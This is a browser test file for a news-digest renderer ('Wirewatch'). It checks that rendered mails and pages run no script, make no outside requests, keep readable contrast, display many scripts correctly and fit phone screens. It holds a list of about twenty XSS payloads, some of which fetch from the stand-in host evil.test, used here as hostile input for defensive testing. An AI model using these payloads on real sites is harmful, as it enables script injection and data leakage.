// What readers see, in a real browser: whatever strangers wrote, nothing runs, nothing is asked for, and everything can be read.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { renderIssue, renderIssuePage } from "../../src/digests/render-issue.ts";
import { composeIssue } from "../../src/stages/compose-issue.ts";
import { openWeb } from "../../src/web/open-web.ts";
import { issueFullOf } from "../digests/issue-full-of.ts";
import { naughtyStrings, naughtyUrls } from "../digests/naughty-strings.ts";
import { sampleIssue, story } from "../digests/sample-issue.ts";
import { digest, openStages, watchlists } from "../stages/open-stages.ts";
import { inventText, tellStory } from "../stages/tell-story.ts";
import { addFeed } from "../store/seed.ts";
import { openChromium } from "../support/open-chromium.ts";
import { contrastFaults, isTofu } from "./measure-page.ts";
import type { Browser, Page } from "playwright-core";
import type { TestStages } from "../stages/open-stages.ts";
import type { Web } from "../../src/web/open-web.ts";

/** Ways to run a script, or to ask for something, that a reader of HTML may fall for. */
const ATTACKS = [
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><img src=//evil.test/a onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<xmp></xmp><script src=//evil.test/x.js></script>",
  "]]><script>alert(1)</script>",
  "<?xml-stylesheet href='//evil.test/x.xsl'?>",
  "--!><img src=x onerror=alert(1)>",
  "</td></tr></table><body onload=alert(1)>",
  '"><link rel=prefetch href=//evil.test/p>',
  "<div style='background:url(//evil.test/bg)'>",
  "\u003cimg src=x onerror=alert(1)\u003e",
  "<a ping='https://evil.test/ping' href='https://evil.test'>x</a>",
];

/** A word for "news" or "report" in each script that mails are to be legible in. */
const SCRIPTS: [script: string, word: string][] = [
  ["Latin", "Nachrichten"],
  ["Cyrillic", "Новости"],
  ["Greek", "Ειδήσεις"],
  ["Burmese", "သတင်း"],
  ["Thai", "ข่าว"],
  ["Khmer", "ព័ត៌មាន"],
  ["Lao", "ຂ່າວ"],
  ["Devanagari", "समाचार"],
  ["Bengali", "সংবাদ"],
  ["Arabic", "أخبار"],
  ["Hebrew", "חדשות"],
  ["Chinese", "新闻"],
  ["Korean", "뉴스"],
];

let browser: Browser;
let page: Page;
let stages: TestStages;
let web: Web;
/** What happened that must not: dialogs, and requests for anything but the page. */
let happened: string[];

beforeAll(async () => {
  [browser, stages] = await Promise.all([openChromium({ installs: true }), openStages("pglite")]);
  web = await openWeb(stages.deps);
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await web?.close();
  await stages?.close();
});

beforeEach(async () => {
  await stages.wipe();
  await page?.close();
  happened = [];
  page = await browser.newPage({ viewport: { width: 375, height: 800 } });
  page.on("dialog", (dialog) => {
    happened.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content Security Policy/.test(message.text())) happened.push(message.text());
  });
  await page.route("**", (route) => {
    const url = route.request().url();
    const isOurs =
      url === page.url() || (url.startsWith(web.url) && (route.request().isNavigationRequest() || url.endsWith("/style.css")));
    if (isOurs) return route.continue();
    happened.push(`request: ${url}`);
    return route.abort();
  });
});

const isAsWideAsTheScreen = () =>
  page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth);

const short = (text: string) => text.slice(0, 3_000);

describe("a mail and its page", () => {
  test("run nothing, ask for nothing and fit a phone, whatever stands in their data", async () => {
    const texts = [...naughtyStrings, ...ATTACKS].map(short);
    for (const [index, text] of texts.entries()) {
      const issue = issueFullOf(text, naughtyUrls[index % naughtyUrls.length] ?? "");
      for (const html of [renderIssue(issue).html, renderIssuePage(issue)]) {
        await page.setContent(html);
        expect(await page.locator("script, img, iframe, object, svg, link, base, form, video").count(), text.slice(0, 80)).toBe(
          0,
        );
        expect(await isAsWideAsTheScreen(), text.slice(0, 80)).toBe(true);
      }
    }
    expect(happened).toEqual([]);
  });

  test.each(["light", "dark"] as const)(
    "can be read in %s: every text stands out from its ground by 4.5 to 1",
    async (colorScheme) => {
      await page.emulateMedia({ colorScheme });
      await page.setContent(renderIssue(sampleIssue({ surges: [{ name: "River", stories: 20, usual: 1 }] })).html);
      const { texts, faults } = await page.evaluate(contrastFaults);
      expect(texts).toBeGreaterThan(20);
      expect(faults).toEqual([]);
    },
  );

  test("are legible in every script, each item in its own language and direction, Burmese with room for its stacks", async () => {
    const stories = SCRIPTS.map(([name, word], index) =>
      story({
        id: `s${index}`,
        title: word,
        excerpt: { text: word, marks: [] },
        outlet: name,
        terms: [word],
        language: name === "Burmese" ? "my" : name === "Arabic" ? "ar" : "de",
      }),
    );
    await page.setContent(renderIssue(sampleIssue({ sections: [{ watchlist: "w", name: "Scripts", stories }], more: 0 })).html);
    for (const [name, word] of SCRIPTS) {
      const heading = page.locator("h3", { hasText: word });
      expect(await heading.evaluate(isTofu), name).toBe(false);
      const { direction, lineHeight } = await heading.evaluate((element) => {
        const { direction: dir, lineHeight: height, fontSize } = getComputedStyle(element);
        return { direction: dir, lineHeight: Number.parseFloat(height) / Number.parseFloat(fontSize) };
      });
      expect(direction, name).toBe(name === "Arabic" || name === "Hebrew" ? "rtl" : "ltr");
      if (name === "Burmese") expect(lineHeight).toBeGreaterThanOrEqual(1.7);
    }
    expect(await page.locator('h3[lang="my"]').count()).toBe(1);
    // Of what no font has the measure tells.
    await page.setContent("<h3>\u{16d40}\u{16d41}</h3>");
    expect(await page.locator("h3").evaluate(isTofu)).toBe(true);
  });

  test("have headings in their order, and fit every width", async () => {
    await page.setContent(renderIssue(sampleIssue()).html);
    const levels = await page
      .locator("h1, h2, h3, h4")
      .evaluateAll((headings) => headings.map(({ tagName }) => Number(tagName.slice(1))));
    expect(levels[0]).toBe(1);
    for (const [index, level] of levels.entries()) expect(level - (levels[index - 1] ?? 0)).toBeLessThanOrEqual(1);
    for (const width of [320, 375, 600, 1_200]) {
      await page.setViewportSize({ width, height: 800 });
      expect(await isAsWideAsTheScreen(), `${width} pixels`).toBe(true);
    }
  });
});

describe("the pages that Wirewatch serves", () => {
  test("run nothing, ask for nothing but their style, obey their own policy and fit a phone", async () => {
    await stages.configure({ digests: [digest("hourly")], watchlists: watchlists("alpha") });
    const hostile = [
      ...ATTACKS,
      ...naughtyStrings.filter((text) => text.length < 200 && !text.includes("\0") && !/\p{Cs}/u.test(text)),
    ];
    for (const title of hostile)
      await tellStory(stages.deps, { title: `${title} alpha`, text: `${title} ${inventText("alpha")}` });
    await addFeed(stages.database, {
      url: "https://evil.test/<script>alert(1)</script>",
      name: ATTACKS[0] ?? "",
      fault: ATTACKS[1] ?? "",
      failures: 3,
    });
    await composeIssue(stages.deps, "hourly", { atOnce: true });
    const ids = await stages.database.many<{ id: number; story_id: number }>(
      "select min(id)::bigint as id, story_id from articles where story_id is not null group by story_id order by story_id limit 12",
    );
    const paths = ["", "issues/1", ...ids.flatMap(({ id, story_id }) => [`stories/${story_id}`, `articles/${id}`])];
    for (const path of paths) {
      await page.goto(`${web.url}${path}`);
      expect(await page.locator("h1").count(), path).toBe(1);
      expect(await page.locator("script, img, iframe, object, svg, base").count(), path).toBe(0);
      expect(await isAsWideAsTheScreen(), path).toBe(true);
    }
    expect(happened).toEqual([]);
  });

  test.each(["light", "dark"] as const)("can be read in %s", async (colorScheme) => {
    await stages.configure({ digests: [digest("hourly")], watchlists: watchlists("alpha") });
    await addFeed(stages.database, { name: "Failing", fault: "not found", failures: 3 });
    await page.emulateMedia({ colorScheme });
    await page.goto(web.url);
    const { texts, faults } = await page.evaluate(contrastFaults);
    expect(texts).toBeGreaterThan(5);
    expect(faults).toEqual([]);
  });
});
